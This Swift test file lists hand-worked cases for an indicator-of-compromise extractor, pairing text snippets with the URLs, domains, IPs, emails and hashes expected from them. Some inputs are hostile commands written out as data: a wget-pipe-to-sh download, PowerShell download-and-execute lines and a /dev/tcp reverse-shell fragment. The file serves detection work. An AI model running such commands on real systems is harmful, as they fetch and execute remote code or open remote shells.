import Testing

/// Texts and what stands in them, by the rules of `../shared/oracle/ioc/README.md`, worked out by hand.
enum IndicatorCases {
  /// A text, and `type value` of each indicator of the types of that oracle.
  struct Case: Sendable, CustomTestStringConvertible {
    let text: String
    let expected: [String]

    var testDescription: String { text }
  }

  static let all: [Case] = [
    Case(
      text: "GET http://cdn.evil-site.net/a/b.exe HTTP/1.1",
      expected: ["url http://cdn.evil-site.net/a/b.exe", "dns cdn.evil-site.net"]),
    Case(
      text: "hxxps[://]login[.]bad-bank[.]co[.]uk/verify?id=1",
      expected: ["url https://login.bad-bank.co.uk/verify?id=1", "dns login.bad-bank.co.uk"]),
    Case(
      text: "h**p://bad[.]ru/x, fxp://files[.]bad[.]ru/",
      expected: ["url http://bad.ru/x", "url ftp://files.bad.ru/", "dns bad.ru", "dns files.bad.ru"]),
    Case(
      text: "evil{.}com and 8{.}8{.}8{.}8",
      expected: ["dns evil.com", "ipv4 8.8.8.8"]),
    Case(
      text: "mail bob(at)evil(dot)org please",
      expected: ["email bob@evil.org", "dns evil.org"]),
    Case(
      text: "mail bob[@]evil[.]org please",
      expected: ["email bob@evil.org", "dns evil.org"]),
    Case(
      text: "IP 1.2.3.4, 5.6.7.8; (9.10.11.12)",
      expected: ["ipv4 1.2.3.4", "ipv4 5.6.7.8", "ipv4 9.10.11.12"]),
    Case(
      text: "version 10.0.19041.1, Version: 1.2.3.4, ver 4.3.2.1, build 1.1.1.1, release 2.2.2.2",
      expected: []),
    Case(
      text: "\"FileVersion\":\"10.0.1.1\",\"src_ip\":\"10.0.1.2\"",
      expected: ["ipv4 10.0.1.2"]),
    Case(
      text: "<Data Name='FileVersion'>6.1.7.1</Data><Data Name='SourceIp'>192.168.1.7</Data>",
      expected: ["ipv4 192.168.1.7"]),
    Case(
      text: "Firefox/1.2.3.4 OPR/1.2.3.4",
      expected: ["ipv4 1.2.3.4"]),
    Case(
      text: "/dev/tcp/10.9.8.7/4444 0>&1",
      expected: ["ipv4 10.9.8.7"]),
    Case(
      text: "256.1.1.1 1.2.3 1.2.3.4.5 01.2.3.4",
      expected: []),
    Case(
      text: "10.0.0.1-10.0.0.20",
      expected: ["ipv4 10.0.0.1", "ipv4 10.0.0.20"]),
    Case(
      text: "10.0.0.0/8,172.16.0.1:443",
      expected: ["ipv4 10.0.0.0", "ipv4 172.16.0.1"]),
    Case(
      text: "host=10.1.1.1:8080;user=x",
      expected: ["ipv4 10.1.1.1"]),
    Case(
      text: "ffff:ffff 2001:db8::1, fe80::1ff:fe23:4567:890a%eth2 ::",
      expected: ["ipv6 2001:db8::1", "ipv6 fe80::1ff:fe23:4567:890a"]),
    Case(
      text: "[2001:db8::5]:443 2001:db8:0:0:0:0:0:1/64",
      expected: ["ipv6 2001:db8::5", "ipv6 2001:db8:0:0:0:0:0:1"]),
    Case(
      text: "::FFFF:10.1.2.3",
      expected: ["ipv6 ::ffff:10.1.2.3", "ipv4 10.1.2.3"]),
    Case(
      text: "2024-05-01T12:34:56 01:02:03 aa:bb:cc:dd:ee:ff",
      expected: []),
    Case(
      text: "std::vector<int> a::b; [Net.Dns]::GetHostName()",
      expected: []),
    Case(
      text: "contact: alice.b@sub.example.co.jp.",
      expected: ["email alice.b@sub.example.co.jp", "dns sub.example.co.jp"]),
    Case(
      text: "user@host user@10.0.0.5 x@y.zzzzz",
      expected: ["ipv4 10.0.0.5"]),
    Case(
      text: "mailto:sales@evil-corp.com?subject=x",
      expected: ["email sales@evil-corp.com", "dns evil-corp.com"]),
    Case(
      text: "From:<a_b@evil.io>",
      expected: ["email a_b@evil.io", "dns evil.io"]),
    Case(
      text: "evil.com:443 evil.com/path sub.evil.com,",
      expected: ["dns evil.com", "dns sub.evil.com"]),
    Case(
      text: "http://evil.com./x",
      expected: ["url http://evil.com./x", "dns evil.com"]),
    Case(
      text:
        "System.Net.WebClient Microsoft.Win32.Registry System.IO.File IO.StreamReader Net.Sockets.TCPClient",
      expected: []),
    Case(
      text: "(New-Object Net.WebClient).DownloadFile('https://a.b-c.info/z.exe','C:\\x.exe')",
      expected: ["url https://a.b-c.info/z.exe", "dns a.b-c.info"]),
    Case(
      text: "$client.name $x.id; obj.com(1) foo.net = 3",
      expected: []),
    Case(
      text: "report.zip setup.sh lib.so a.pl b.rs notes.md x.mov y.app z.cc t.pm",
      expected: []),
    Case(
      text: "C:\\ProgramData\\evil.com\\x \\\\files.corp.local\\share \\\\srv01.contoso.com\\c$",
      expected: ["dns files.corp.local", "dns srv01.contoso.com"]),
    Case(
      text: "/var/www/evil.com/index.html",
      expected: []),
    Case(
      text: "_kerberos._tcp.contoso.com. IN SRV dc01.contoso.com",
      expected: ["dns _kerberos._tcp.contoso.com", "dns dc01.contoso.com"]),
    Case(
      text: "co.uk com.br github.io",
      expected: ["dns github.io"]),
    Case(
      text: "XN--80AK6AA92E.COM",
      expected: ["dns xn--80ak6aa92e.com"]),
    Case(
      text: "abc.onion router.home printer.lan gw.internal",
      expected: ["dns abc.onion", "dns router.home", "dns printer.lan", "dns gw.internal"]),
    Case(
      text: "d41d8cd98f00b204e9800998ecf8427e da39a3ee5e6b4b0d3255bfef95601890afd80709",
      expected: [
        "md5_hash d41d8cd98f00b204e9800998ecf8427e", "sha1_hash da39a3ee5e6b4b0d3255bfef95601890afd80709",
      ]),
    Case(
      text: "VirusShare_d41d8cd98f00b204e9800998ecf8427e x-d41d8cd98f00b204e9800998ecf8427f.exe",
      expected: ["md5_hash d41d8cd98f00b204e9800998ecf8427e", "md5_hash d41d8cd98f00b204e9800998ecf8427f"]),
    Case(
      text:
        "11111111111111111111111111111111 12345678901234567890123456789012 abababababababababababababababab 0xd41d8cd98f00b204e9800998ecf8427e",
      expected: []),
    Case(
      text:
        "MD5=D41D8CD98F00B204E9800998ECF8427E;SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
      expected: [
        "md5_hash d41d8cd98f00b204e9800998ecf8427e",
        "sha256_hash e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
      ]),
    Case(
      text: "d41d8cd98f00b204e9800998ecf8427e1 xd41d8cd98f00b204e9800998ecf8427e",
      expected: []),
    Case(
      text: "https://t.co/abc) and [x](http://foo.bar.org/y(z)) <http://q.org>",
      expected: [
        "url https://t.co/abc", "url http://foo.bar.org/y(z)", "url http://q.org", "dns t.co",
        "dns foo.bar.org", "dns q.org",
      ]),
    Case(
      text: "http://a.org/1;http://b.org/2 http://c.org/x,y",
      expected: [
        "url http://a.org/1", "url http://b.org/2", "url http://c.org/x,y", "dns a.org", "dns b.org",
        "dns c.org",
      ]),
    Case(
      text: "url=\"http://x.org/?a=1&b=2\" more",
      expected: ["url http://x.org/?a=1&b=2", "dns x.org"]),
    Case(
      text: "http://{0}/x http://$env:COMPUTERNAME/x http:///x http:// https://%s/x",
      expected: []),
    Case(
      text:
        "https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fphish.example.net%2Flogin%3Fa%3D1&data=04",
      expected: [
        "url https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fphish.example.net%2Flogin%3Fa%3D1&data=04",
        "url https://phish.example.net/login?a=1", "dns eur01.safelinks.protection.outlook.com",
        "dns phish.example.net",
      ]),
    Case(
      text: "ldap://dc.corp.local:389/o=x ftp://1.2.3.4/ sftp://h.org",
      expected: [
        "url ldap://dc.corp.local:389/o=x", "url ftp://1.2.3.4/", "url sftp://h.org", "dns dc.corp.local",
        "dns h.org", "ipv4 1.2.3.4",
      ]),
    Case(
      text: "http://user:pw@evil.com:8080/x",
      expected: ["url http://user:pw@evil.com:8080/x", "dns evil.com"]),
    Case(
      text: "wget -q http://203.0.113.9/x.sh|sh",
      expected: ["url http://203.0.113.9/x.sh", "ipv4 203.0.113.9"]),
    Case(
      text: "curl https://EVIL.example.COM/Path",
      expected: ["url https://EVIL.example.COM/Path", "dns evil.example.com"]),
    Case(
      text: "powershell \"IEX(New-Object Net.WebClient).DownloadString(\\\"http://10.1.1.5:8000/a\\\")\"",
      expected: ["url http://10.1.1.5:8000/a", "ipv4 10.1.1.5"]),
    Case(
      text: "chcp.com 65001 && more.com <a.txt & tree.com /f",
      expected: []),
    Case(
      text: "connected to evil.com (1.2.3.4) via proxy.local",
      expected: ["dns evil.com", "dns proxy.local", "ipv4 1.2.3.4"]),
    Case(
      text: "postfix/smtpd: connect from mail.evil.org[198.51.100.22]",
      expected: ["dns mail.evil.org", "ipv4 198.51.100.22"]),
    Case(
      text: "sshd[1]: Failed password for root from 203.0.113.77 port 22 ssh2",
      expected: ["ipv4 203.0.113.77"]),
    Case(
      text: "a@b.co",
      expected: ["email a@b.co", "dns b.co"]),
    Case(
      text: "Gr\u{FC}\u{DF}e an m\u{FC}ller@evil.de und evil.de!",
      expected: ["dns evil.de", "email ller@evil.de"]),
    Case(
      text: "evil.com\u{3002}",
      expected: ["dns evil.com"]),
    Case(
      text: "see \u{201C}http://evil.com/x\u{201D} now",
      expected: ["url http://evil.com/x", "dns evil.com"]),
    Case(
      text: "4.3.2.1.in-addr.arpa",
      expected: ["dns 4.3.2.1.in-addr.arpa"]),
    Case(
      text: "dns: 1.0.0.127.dnsbl.example.org",
      expected: ["dns 1.0.0.127.dnsbl.example.org"]),
    Case(
      text: "*.evil.com .evil.net",
      expected: ["dns evil.com", "dns evil.net"]),
    Case(
      text: "Process.Start System.Diagnostics.Process MyApp.Program.Main(String[] args)",
      expected: []),
    Case(
      text: "foo.py:12 bar.sh:3 node_modules/left-pad@1.3.0 index.ts main.go",
      expected: []),
    Case(
      text: "npm install evil.js; require('fs').promises",
      expected: []),
    Case(
      text: "Microsoft.NET ASP.NET Microsoft.Photos",
      expected: []),
    Case(
      text: "hash:sha1:da39a3ee5e6b4b0d3255bfef95601890afd80709",
      expected: ["sha1_hash da39a3ee5e6b4b0d3255bfef95601890afd80709"]),
    Case(
      text: "https://evil.com/download/d41d8cd98f00b204e9800998ecf8427e/x",
      expected: [
        "url https://evil.com/download/d41d8cd98f00b204e9800998ecf8427e/x", "dns evil.com",
        "md5_hash d41d8cd98f00b204e9800998ecf8427e",
      ]),
    Case(
      text: "http://evil.com/?ip=9.8.7.6&m=joe@victim.org",
      expected: [
        "url http://evil.com/?ip=9.8.7.6&m=joe@victim.org", "dns evil.com", "dns victim.org", "ipv4 9.8.7.6",
        "email joe@victim.org",
      ]),
    Case(
      text: "8.8.8.8.",
      expected: ["ipv4 8.8.8.8"]),
    Case(
      text: "hxxp:\\\\evil.com\\x",
      expected: ["dns evil.com"]),
    Case(
      text: "C:\\Program Files (x86)\\Google\\Update\\1.3.36.112\\GoogleUpdate.exe",
      expected: []),
    Case(
      text: "evil[.]com[.]br, 10[.]0[.]0[.]1:80; http[:]//x[.]org",
      expected: ["dns evil.com.br", "dns x.org", "ipv4 10.0.0.1", "url http://x.org"]),
    Case(
      text: "2001[:]db8[:][:]1",
      expected: ["ipv6 2001:db8::1"]),
  ]
}
